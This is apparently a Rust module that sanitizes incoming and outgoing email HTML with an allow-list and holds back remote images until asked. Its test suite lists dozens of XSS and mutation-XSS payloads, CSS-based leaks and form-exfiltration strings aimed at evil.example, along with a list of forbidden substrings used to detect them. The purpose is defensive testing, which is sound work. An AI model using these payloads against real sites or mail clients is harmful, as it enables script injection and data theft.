//! Makes the HTML of a mail safe to show, and text of it.
//!
//! Everything that is not on a list is removed: scripts, forms, frames, SVG and MathML, classes and ids, style sheets. Inline
//! styles keep harmless properties only, and no functions but colours, so that nothing is fetched. A remote image keeps its
//! address in `data-remote-src`: it loads only when an agent asks for it, and so tells the sender nothing until then. References
//! to images in the mail itself are written as `cid:` and the id the attachment is delivered with.
mod text;

use ammonia::{Builder, UrlRelative};
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;
pub use text::to_text;

/// HTML beyond this many bytes is cut: no person writes so much, and cleaning takes time.
pub const HTML_LIMIT: usize = 1 << 20;

/// The deepest nesting that is cleaned; mail programs stay far below. Building the tree takes time with the depth.
const DEPTH_LIMIT: usize = 500;

/// Stands for `src` of a remote image until the attribute can be renamed.
const REMOTE: &str = "konversio-remote:";

/// Where the images of one mail are: from what its HTML calls them (`cid:…`, or a Content-Location) to the id of the attachment.
pub type InlineImages = HashMap<String, String>;

/// Cleans the HTML of a mail that came in.
pub fn clean_inbound(html: &str, images: &InlineImages) -> String {
    let images = images.clone();
    let mut builder = policy();
    builder.attribute_filter(move |element, attribute, value| match (element, attribute) {
        ("img", "src") => image_source(value, &images).map(Cow::Owned),
        _ => keep_attribute(attribute, value),
    });
    builder.clean(bounded(html)).to_string().replace(&format!("src=\"{REMOTE}"), "data-remote-src=\"")
}

/// Cleans the HTML of a mail that goes out: as inbound, but images stay where they are.
pub fn clean_outbound(html: &str) -> String {
    let mut builder = policy();
    builder.attribute_filter(|_, attribute, value| keep_attribute(attribute, value));
    builder.clean(bounded(html)).to_string()
}

fn policy() -> Builder<'static> {
    static STYLES: LazyLock<HashSet<&'static str>> = LazyLock::new(|| {
        let names = "color background-color font-family font-size font-style font-weight text-align text-decoration line-height \
                     white-space vertical-align border border-top border-right border-bottom border-left border-collapse border-color \
                     border-style border-width border-radius margin margin-top margin-right margin-bottom margin-left padding \
                     padding-top padding-right padding-bottom padding-left width height max-width direction list-style-type";
        names.split_whitespace().collect()
    });
    let mut builder = Builder::default();
    builder
        .add_tags(["font", "center", "u", "small", "big", "tt"])
        .rm_tags(["map", "area"])
        .add_clean_content_tags([
            "title", "template", "svg", "math", "iframe", "object", "embed", "noscript", "noembed", "noframes", "textarea", "select", "xmp",
        ])
        .add_generic_attributes(["style", "dir"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes("table", ["width", "border", "cellpadding", "cellspacing", "bgcolor"])
        .add_tag_attributes("td", ["width", "height", "valign", "bgcolor"])
        .add_tag_attributes("th", ["width", "height", "valign", "bgcolor"])
        .add_tag_attributes("tr", ["valign", "bgcolor"])
        .add_tag_attributes("p", ["align"])
        .add_tag_attributes("div", ["align"])
        .filter_style_properties(STYLES.clone())
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "cid"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank");
    builder
}

fn keep_attribute<'value>(attribute: &str, value: &'value str) -> Option<Cow<'value, str>> {
    let is_kept = match attribute {
        "style" => is_harmless_style(value),
        "src" => ["http:", "https:", "cid:"].iter().any(|scheme| starts_with(value, scheme)),
        "href" | "cite" => ["http:", "https:", "mailto:", "tel:"].iter().any(|scheme| starts_with(value, scheme)),
        _ => true,
    };
    is_kept.then_some(Cow::Borrowed(value))
}

/// No escapes, and no functions that are not colours: so nothing is computed and nothing is fetched.
fn is_harmless_style(style: &str) -> bool {
    let lower = style.to_ascii_lowercase();
    let mut before = lower.split('(');
    let last = before.next_back();
    let are_colours = before.all(|text| ["rgb", "rgba", "hsl", "hsla"].iter().any(|name| text.ends_with(name)));
    !lower.contains('\\') && !lower.contains("position") && are_colours && last.is_some()
}

fn image_source(source: &str, images: &InlineImages) -> Option<String> {
    let source = source.trim();
    if starts_with(source, "http:") || starts_with(source, "https:") {
        return Some(format!("{REMOTE}{source}"));
    }
    let called = match source.split_once(':') {
        Some((scheme, id)) if scheme.eq_ignore_ascii_case("cid") => format!("cid:{}", percent_decode(id)),
        Some(_) => return None,
        None => source.to_owned(),
    };
    images.get(&called).map(|id| format!("cid:{id}"))
}

/// Decodes `%40` and the like.
pub fn percent_decode(text: &str) -> String {
    let mut decoded = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((byte, after)) = rest.split_first() {
        let code =
            after.get(..2).filter(|_| *byte == b'%').and_then(|digits| hex::decode(digits).ok()).and_then(|code| code.first().copied());
        decoded.push(code.unwrap_or(*byte));
        rest = if code.is_some() { after.get(2..).unwrap_or_default() } else { after };
    }
    String::from_utf8_lossy(&decoded).into_owned()
}

fn starts_with(value: &str, prefix: &str) -> bool {
    value.trim_start().get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
}

/// Cuts HTML that is too long, or where it is nested too deeply.
fn bounded(html: &str) -> &str {
    let mut end = html.len().min(HTML_LIMIT);
    let mut depth: usize = 0;
    let bytes = html.as_bytes();
    for (position, pair) in bytes.windows(2).enumerate().take(end) {
        match pair {
            [b'<', b'/'] => depth = depth.saturating_sub(1),
            [b'<', letter] if letter.is_ascii_alphabetic() && !is_void(bytes.get(position + 1..).unwrap_or_default()) => depth += 1,
            _ => continue,
        }
        if depth > DEPTH_LIMIT {
            end = position;
            break;
        }
    }
    while !html.is_char_boundary(end) {
        end -= 1;
    }
    html.get(..end).unwrap_or_default()
}

/// Elements that are usually never closed.
fn is_void(tag: &[u8]) -> bool {
    const VOID: [&str; 14] = ["br", "img", "hr", "p", "li", "meta", "link", "input", "col", "wbr", "td", "tr", "th", "o:p"];
    let name: String = tag
        .iter()
        .take(8)
        .map_while(|byte| (byte.is_ascii_alphanumeric() || *byte == b':').then(|| char::from(byte.to_ascii_lowercase())))
        .collect();
    VOID.contains(&name.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        let images = InlineImages::from([
            ("cid:logo@shop".to_owned(), "logo@shop".to_owned()),
            ("pictures/sun.png".to_owned(), "part3@inline".to_owned()),
        ]);
        clean_inbound(html, &images)
    }

    #[test]
    fn attacks_lose_their_teeth() {
        let attacks = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<a href=\" java\tscript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<form action=https://evil.example/><input name=password></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<iframe src=https://evil.example/></iframe>",
            "<object data=https://evil.example/></object>",
            "<embed src=https://evil.example/>",
            "<video poster=https://evil.example/ src=https://evil.example/></video>",
            "<audio src=https://evil.example/ autoplay></audio>",
            "<div style=\"background-image:url(https://evil.example/)\">x</div>",
            "<div style=\"background:url('javascript:alert(1)')\">x</div>",
            "<div style=\"background-color:\\75 rl(https://evil.example/)\">x</div>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
            "<table background=https://evil.example/><tr><td background=https://evil.example/>x</td></tr></table>",
            "<body background=https://evil.example/ onload=alert(1)>x</body>",
            "<img srcset=\"https://evil.example/ 2x\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!-- unclosed <img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<a href=https://good.example/ onclick=alert(1) ping=https://evil.example/>x</a>",
            "<details open ontoggle=alert(1)>x</details>",
            "<isindex action=javascript:alert(1) type=submit>",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x",
            "<p id=location class=admin name=x>x</p>",
            "<a href=\"//evil.example/\">x</a>",
            "<area href=\"javascript:alert(1)\"><map name=x>",
        ];
        let forbidden = [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "ontoggle",
            "javascript",
            "vbscript",
            "data:",
            "<svg",
            "<math",
            "<base",
            "<meta",
            "<style",
            "<link",
            "<form",
            "<input",
            "<button",
            "<iframe",
            "<object",
            "<embed",
            "<video",
            "<audio",
            "url(",
            "expression",
            "fixed",
            "background=",
            "srcset",
            "ping=",
            "<textarea",
            "<xmp",
            "id=",
            "class=",
            "evil.example",
            "<area",
        ];
        for attack in attacks {
            let cleaned = clean(attack);
            // A literal `<` in the text or in an attribute is only ever written as an entity, so these are real tags.
            let tags: String = cleaned
                .split('<')
                .skip(1)
                .filter_map(|piece| piece.split_once('>'))
                .map(|(tag, _)| format!("<{tag}>").to_ascii_lowercase())
                .collect();
            for word in forbidden {
                let in_title = tags.contains("title=\"");
                assert!(in_title || !tags.contains(word), "{word} is left of {attack:?}: {cleaned}");
            }
            assert!(!tags.contains("<img src"), "{attack:?}: {cleaned}");
            // The attributes that cleaning adds may change places.
            let letters = |text: &str| {
                let mut letters: Vec<char> = text.chars().collect();
                letters.sort_unstable();
                letters
            };
            assert_eq!(letters(&clean(&cleaned)), letters(&cleaned), "cleaning again changes nothing: {attack:?}");
        }
    }

    #[test]
    fn images_load_only_when_asked_or_from_the_mail() {
        for (given, cleaned) in [
            (
                "<img src=\"https://tracker.example/a?b=1&c=2\" alt=\"x\">",
                "<img data-remote-src=\"https://tracker.example/a?b=1&amp;c=2\" alt=\"x\">",
            ),
            ("<img src=\"cid:logo@shop\">", "<img src=\"cid:logo@shop\">"),
            ("<img src=\"CID:logo%40shop\">", "<img src=\"cid:logo@shop\">"),
            ("<img src=\"cid:unknown\">", "<img>"),
            ("<img src=\"pictures/sun.png\">", "<img src=\"cid:part3@inline\">"),
            ("<img src=\"konversio-remote:x\">", "<img>"),
            ("src=\"konversio-remote:x", "data-remote-src=\"x"),
        ] {
            assert_eq!(clean(given), cleaned, "{given}");
        }
    }

    #[test]
    fn ordinary_mail_keeps_its_looks() {
        let given = "<html><head><title>t</title><style>p{}</style></head><body><p style=\"color: rgb(0, 0, 0); margin: 0px\">Hi <b>you</b></p>\
                     <a href=\"https://shop.example/?a=1\">here</a><table width=\"600\"><tr><td valign=\"top\">1</td></tr></table></body></html>";
        let cleaned = clean(given);
        assert!(cleaned.starts_with("<p style=\"color:rgb(0, 0, 0);margin:0px\">Hi <b>you</b></p>"), "{cleaned}");
        assert!(
            cleaned.contains("<a href=\"https://shop.example/?a=1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">here</a>"),
            "{cleaned}"
        );
        assert!(cleaned.contains("<table width=\"600\"><tbody><tr><td valign=\"top\">1</td></tr></tbody></table>"), "{cleaned}");
    }

    #[test]
    fn bombs_end_soon() {
        let started = std::time::Instant::now();
        for html in [
            "<div>".repeat(400_000),
            "<b><i><u><a>".repeat(100_000),
            "<table><tr><td>".repeat(100_000),
            "<".repeat(3 << 20),
            "<p>x".repeat(200_000),
        ] {
            to_text(&clean(&html));
        }
        assert!(started.elapsed().as_secs() < 300, "{:?}", started.elapsed());
    }
}
